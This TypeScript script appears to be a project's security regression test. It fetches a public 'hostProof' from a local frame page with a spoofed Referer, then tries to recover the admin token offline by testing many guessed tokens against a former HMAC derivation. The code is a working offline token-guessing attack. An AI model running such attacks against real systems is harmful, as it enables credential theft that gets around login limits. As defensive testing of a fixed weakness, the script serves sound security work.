/**
 * Attack: test admin-token guesses offline against a public value. One anonymous GET of a frame page with any
 * Referer returns that host's proof; if the proof were an HMAC keyed by ADMIN_TOKEN (as it was), each guess could
 * be checked on the attacker's own machine, with no request and no login limit.
 *
 *   TARGET=http://127.0.0.1:3000 npx tsx ops/security/attacks/offline-token-guess.ts [--list FILE] [--plant TOKEN]
 *
 * --list: the guesses, one a line (default: 200,000 made-up 23-character tokens). --plant: put this token among
 * the guesses at a random place, standing for a token that is in the attacker's list.
 * Bounded: one request, then at most the list's length of HMACs.
 */
import { createHmac, randomBytes, randomInt } from "node:crypto";
import { readFileSync } from "node:fs";
import { parseArgs } from "node:util";
import { loopbackTarget } from "../target";

const target = loopbackTarget();
const { values } = parseArgs({ options: { list: { type: "string" }, plant: { type: "string" } } });

const host = "attacker.example";
const page = await fetch(`${target}/embed/armsOnly`, { headers: { referer: `https://${host}/post` } });
const config = /<script type="application\/json" id="[^"]+-frame">([^<]*)<\/script>/.exec(await page.text());
const proof: string | undefined = JSON.parse(config?.[1] ?? "{}").hostProof;
console.log(`GET /embed/armsOnly (Referer https://${host}/post): ${page.status}, proof ${proof ?? "(none)"}`);
if (!proof) process.exit(0);

const guesses = values.list
  ? readFileSync(values.list, "utf8").split("\n").filter(Boolean)
  : Array.from({ length: 200_000 }, () => randomBytes(17).toString("base64url").slice(0, 23));
if (values.plant) guesses.splice(randomInt(guesses.length + 1), 0, values.plant);

// The derivation the proof used while it was keyed by the admin token.
const proofFromToken = (token: string) => {
  const key = createHmac("sha256", token).update("movebreak reach: frame host proof v1").digest();
  return createHmac("sha256", key).update(host).digest("base64url").slice(0, 22);
};
const started = performance.now();
const found = guesses.find((guess) => proofFromToken(guess) === proof);
const seconds = (performance.now() - started) / 1000;
console.log(
  `${guesses.length.toLocaleString("en")} guesses checked offline in ${seconds.toFixed(2)} s ` +
    `(${Math.round(guesses.length / seconds).toLocaleString("en")} a second, one core), 0 requests to the server`,
);
console.log(found ? `TOKEN RECOVERED: ${found}` : "No guess reproduces the proof: it is not keyed by the admin token.");
